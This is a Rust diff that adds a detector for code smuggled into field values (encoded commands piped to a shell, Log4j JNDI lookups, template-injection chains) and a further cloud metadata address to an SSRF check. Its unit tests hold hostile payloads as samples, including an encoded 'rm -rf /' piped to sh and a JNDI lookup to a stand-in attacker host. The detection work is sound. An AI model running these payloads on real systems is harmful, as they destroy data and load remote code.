@@ -125,6 +125,29 @@ fn holds_command(value: &str) -> bool {
     starts.take(FIELDS_MAX).any(|word| PROGRAMS.contains(&word))
 }
 
+/// Ways to undo an encoding on a command line.
+const UNDOING: [&str; 5] = ["base64 -d", "base64 --decode", "openssl base64 -d", "openssl enc -d", "xxd -r"];
+/// How far behind them a shell may stand, in bytes.
+const TO_SHELL_BYTES_MAX: usize = 80;
+
+/// Whether a field holds code that whoever reads it runs: a command that is encoded, a lookup of Log4j, a template
+/// that reaches for the interpreter.
+pub fn smuggles_code(fields: &[Field<'_>]) -> bool {
+    let to_shell = |value: &str, at: usize| {
+        let behind = head(value.get(at..).unwrap_or_default(), TO_SHELL_BYTES_MAX);
+        behind.split('|').skip(1).any(|next| {
+            ["bash", "sh", "zsh", "python", "python3", "perl"]
+                .contains(&next.split_whitespace().next().unwrap_or_default())
+        })
+    };
+    fields.iter().any(|Field { value, .. }| {
+        UNDOING.iter().any(|undo| value.match_indices(undo).any(|(at, _)| to_shell(value, at)))
+            || value.contains("${jndi:")
+            || value.contains("__class__")
+                && ["__globals__", "__subclasses__", "popen("].iter().any(|s| value.contains(s))
+    })
+}
+
 /// Fields that name a file.
 const PATHS: [&str; 18] = [
     "dest",
@@ -204,8 +227,8 @@ pub fn percent_decoded(text: &str) -> String {
     String::from_utf8_lossy(&out).into_owned()
 }
 
-/// Services that hand out a machine's credentials: AWS, Azure, Google and others; Alibaba; AWS over IPv6.
-const METADATA_V4: [[u8; 4]; 2] = [[169, 254, 169, 254], [100, 100, 100, 200]];
+/// Services that hand out a machine's credentials: AWS, Azure, Google and others; Alibaba; Oracle; AWS over IPv6.
+const METADATA_V4: [[u8; 4]; 3] = [[169, 254, 169, 254], [100, 100, 100, 200], [192, 0, 0, 192]];
 const METADATA_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254);
 
 /// Whether a URL of the call leads to a metadata service, in whatever notation.
@@ -245,6 +268,7 @@ mod tests {
             "0251.0376.0251.0376",
             "::ffff:169.254.169.254",
             "100.100.100.200",
+            "192.0.0.192",
             "fd00:ec2::254",
             "Metadata.google.internal",
         ] {
@@ -262,6 +286,23 @@ mod tests {
         }
         for value in ["Smith & Sons", "a;b;c", "R&D (id 7)", "rock | pop", "cat.txt", "f(id)", "&&&&", "", "$("] {
             assert!(!holds_command(value), "{value}");
+        }
+    }
+
+    #[test]
+    fn code_is_smuggled_in_values() {
+        let smuggles = |value: &str| smuggles_code(&[Field { name: "x", value }]);
+        for value in [
+            "echo cm0gLXJmIC8= | base64 -d | sh",
+            "base64 --decode <<< aWQ= |bash -s",
+            "${jndi:ldap://evil.example/a}",
+            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        ] {
+            assert!(smuggles(value), "{value}");
+        }
+        for value in ["echo aGVsbG8= | base64 -d", "base64 -d key.b64 > key | tee sh.log", "print(x.__class__)", "${x}"]
+        {
+            assert!(!smuggles(value), "{value}");
         }
     }
 
